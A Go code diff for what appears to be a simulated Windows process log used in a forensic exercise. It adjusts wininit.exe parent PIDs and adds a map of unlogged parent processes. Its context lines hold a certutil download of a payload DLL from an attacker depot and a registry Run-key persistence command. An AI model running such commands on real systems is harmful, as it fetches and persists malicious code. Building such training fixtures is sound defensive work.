@@ -24,7 +24,7 @@ func processes() []process {
 	shell := `"` + system32 + `cmd.exe" /c certutil -urlcache -f ` + depotURL + " " + subject +
 		` & certutil -urlcache -f http://` + depotIP + `/u/sqlhelper.dll ` + companion
 	return []process{
-		{612, 0, system32 + `wininit.exe`, "wininit.exe", localSystem, systemLogon, 0, "04:00:12.204", ""},
+		{612, 508, system32 + `wininit.exe`, "wininit.exe", localSystem, systemLogon, 0, "04:00:12.204", ""},
 		{700, 612, system32 + `services.exe`, system32 + `services.exe`, localSystem, systemLogon, 0, "04:00:12.611", ""},
 		{1020, 700, system32 + `svchost.exe`, system32 + `svchost.exe -k iissvcs`, localSystem, systemLogon, 0, "04:00:15.120", ""},
 		{2216, 700, genuine, `"` + genuine + `" -sMSSQLSERVER`, databaseEngine, engineLogon, 0, "04:01:30.077", ""},
@@ -44,7 +44,7 @@ func processes() []process {
 		{7244, 7100, system32 + `reg.exe`, `reg  add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v SQLServerUpdate /d ` + subject, portalAdmin, rdpLogon, 3, "13:55:12.120", "13:55:12.355"},
 		{5532, 6120, system32 + `notepad.exe`, `"` + system32 + `notepad.exe" C:\Users\svcadmin\Documents\todo.txt`, svcAdmin, adminLogon, 2, "14:02:13.401", "14:09:02.118"},
 
-		{608, 0, system32 + `wininit.exe`, "wininit.exe", localSystem, systemLogon, 0, "22:03:41.870", ""},
+		{608, 500, system32 + `wininit.exe`, "wininit.exe", localSystem, systemLogon, 0, "22:03:41.870", ""},
 		{700, 608, system32 + `services.exe`, system32 + `services.exe`, localSystem, systemLogon, 0, "22:03:42.233", ""},
 		{1012, 700, system32 + `svchost.exe`, system32 + `svchost.exe -k iissvcs`, localSystem, systemLogon, 0, "22:03:45.006", ""},
 		{2216, 700, subject, subject, localSystem, systemLogon, 0, "22:04:02.733", ""},
@@ -75,5 +75,10 @@ func (t table) at(pid uint32, when time.Time) *process {
 			return p
 		}
 	}
-	return &process{pid: pid, start: "04:00:10.5"}
+	image := system32 + unlogged[pid]
+	return &process{pid: pid, start: "04:00:10.5", image: image}
 }
+
+// unlogged are the parents that no log has the start of: they had ended, or started
+// before the logs.
+var unlogged = map[uint32]string{508: "smss.exe", 500: "smss.exe", 6100: "userinit.exe", 6990: "userinit.exe", 5990: "userinit.exe"}
